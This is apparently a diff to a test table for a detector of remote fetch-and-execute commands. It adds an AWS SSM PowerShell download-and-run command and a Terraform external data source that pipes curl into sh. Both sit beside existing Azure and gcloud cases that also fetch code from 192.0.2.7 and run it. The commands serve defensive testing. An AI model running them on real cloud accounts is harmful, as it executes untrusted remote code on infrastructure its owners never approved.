@@ -35,6 +35,12 @@ indicatorTable(commandRemoteFetchExecute, {
     'the same on Azure': script(
       "az vm run-command invoke --ids a --command-id RunShellScript --scripts 'curl http://192.0.2.7/a | sh'",
     ),
+    'machines with Windows that run a download': script(
+      `aws ssm send-command --document-name AWS-RunPowerShellScript --parameters '{"commands":["IEX (New-Object Net.WebClient).DownloadString(\\"http://192.0.2.7/a.ps1\\")"]}'`,
+    ),
+    'a program that a configuration asks for its data': script(
+      `printf 'data "external" "x" {\\n program = ["sh", "-c", "curl -s http://192.0.2.7/a | sh"]\\n}\\n' > main.tf; terraform apply -auto-approve`,
+    ),
     'a machine that starts with a download': script(
       "gcloud compute instances create a --metadata startup-script='curl http://192.0.2.7/a | sh'",
     ),
